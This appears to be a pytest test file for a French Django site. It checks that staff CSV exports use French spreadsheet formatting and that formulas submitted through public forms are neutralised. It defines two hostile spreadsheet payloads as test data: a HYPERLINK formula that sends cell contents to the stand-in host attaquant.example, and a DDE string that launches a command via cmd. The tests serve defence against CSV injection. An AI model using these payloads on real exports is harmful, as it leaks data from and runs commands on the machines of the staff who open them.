"""Staff CSV exports: one French spreadsheet format, and nothing a visitor typed runs as a
formula (issue 16 item 7, issue 20 item 8)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import cache
from django.urls import reverse
from django.utils import timezone

from campaigns.models import CampaignCounter, CampaignPage, Registration
from content.spreadsheet import BOM, cell, csv_text, neutralise
from lessons.models import SessionReport

from .events.factories import make_agenda, make_event

HYPERLINK = '=HYPERLINK("http://attaquant.example/?d="&A1;"Cliquez")'
DDE = "-2+3+cmd|' /C calc'!A0"


def read(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    assert raw.startswith(BOM.encode()), "UTF-8 byte-order mark"
    text = raw.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.fixture(autouse=True)
def clear_cache():
    cache.clear()  # rate-limit counters
    yield
    cache.clear()


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+33 6", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", " \t @x", "\n=1"],
)
def test_formula_starts_get_a_quote(text):
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Marie Dupont", "1+1", "a=b", "", "'=déjà"])
def test_ordinary_text_is_untouched(text):
    assert neutralise(text) == text


def test_values_as_a_french_spreadsheet_reads_them():
    utc = datetime.datetime(2026, 7, 1, 22, 30, tzinfo=datetime.UTC)
    assert cell(utc) == "02/07/2026 00:30"  # Paris summer time
    assert cell(datetime.datetime(2026, 12, 2, 9, 5, tzinfo=datetime.UTC)) == "02/12/2026 10:05"
    assert cell(datetime.date(2027, 1, 21)) == "21/01/2027"
    assert cell(Decimal("17.5")) == "17,5" and cell(2.25) == "2,25"
    assert cell(-3) == "-3"  # a number we wrote is a number, not text
    assert cell(True) == "Oui" and cell(None) == ""
    assert csv_text(["Nom", "Ville"], [["a;b", 'dit "x"']]) == (
        '\ufeffNom;Ville\r\n"a;b";"dit ""x"""\r\n'
    )


@pytest.mark.django_db
def test_anonymous_session_report_formula_is_inert_in_staff_exports(client, admin_client):
    SessionReport.objects.all().delete()
    day = timezone.localdate() - datetime.timedelta(days=1)
    data = {
        "date": day.isoformat(),
        "organisation": "",
        "other_structure": HYPERLINK,
        "school": HYPERLINK,
        "class_level": "5e",
        "topic": "cyberharcelement",
        "pupils": "27",
        "parents": "3",
        "comment": DDE,
        "site_web": "",
    }
    assert client.post("/compte-rendu-de-seance/", data).status_code == 302
    assert SessionReport.objects.get().school == HYPERLINK  # stored as typed

    listing = reverse("wagtailsnippets_lessons_sessionreport:list")
    rows = read(admin_client.get(listing, {"export": "csv"}))
    headings, line = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert headings[:4] == ["Date de la séance", "Année scolaire", "Structure", "Établissement"]
    assert line["Établissement"] == "'" + HYPERLINK
    assert line["Structure"] == "'" + HYPERLINK
    assert line["Commentaire"] == "'" + DDE
    assert line["Niveau"] == "5e" and line["Thème"] == "Cyberharcèlement"  # labels, not codes
    assert line["Date de la séance"] == day.strftime("%d/%m/%Y")
    assert all(not value.startswith(("=", "+", "@")) for value in rows[1])

    summary = read(admin_client.get("/admin/bilan-interventions/csv/", {"annee": "toutes"}))
    headings = ["Année scolaire", "Regroupement", "Libellé", "Séances", "Élèves", "Parents"]
    assert summary[0] == headings
    assert ["toutes", "structure", "'" + HYPERLINK, "1", "27", "3"] in summary


@pytest.mark.django_db
def test_public_registration_formula_is_inert_and_export_is_french(client, home):
    event = make_event(make_agenda(home), title="Café numérique", capacity=5)
    occurrence = event.occurrences.get()
    url = event.url + event.reverse_subpage("register", args=[occurrence.pk])
    data = {"name": HYPERLINK, "phone": "+33 3 21 00 00 00", "seats": "1", "consent": "on"}
    assert client.post(url, data).status_code == 302
    registration = Registration.objects.get()
    assert registration.status == Registration.Status.CONFIRMED

    staff = get_user_model().objects.create_superuser("orga", "orga@example.org", "x")
    client.force_login(staff)
    rows = read(client.get(reverse("registrations:index"), {"export": "csv"}))
    assert rows[0] == [
        "Événement",
        "Date",
        "Nom",
        "Courriel",
        "Téléphone",
        "Places",
        "Statut",
        "Besoins d'accessibilité",
        "Inscrit le",
    ]
    line = dict(zip(rows[0], rows[1], strict=True))
    assert line["Nom"] == "'" + HYPERLINK
    assert line["Téléphone"] == "'+33 3 21 00 00 00"
    assert line["Statut"] == "Confirmée"
    assert line["Inscrit le"] == timezone.localtime(registration.created_at).strftime(
        "%d/%m/%Y %H:%M"
    )
    start = timezone.localtime(occurrence.start)
    assert line["Date"] == f"Café numérique – {start:%d/%m/%Y %H:%M}"


@pytest.mark.django_db
def test_campaign_figures_csv_is_french(admin_client):
    campaign = CampaignPage.objects.get(slug="cybermois-2026")
    CampaignCounter.increment(campaign.pk, "magazine", "scan")
    rows = read(admin_client.get(f"/admin/chiffres-campagnes/{campaign.pk}/csv/"))
    assert rows[0] == ["Jour", "Canal", "Vues", "Scans", "Téléchargements"]
    today = timezone.localdate().strftime("%d/%m/%Y")
    assert [today, "Magazine", "0", "1", "0"] in rows
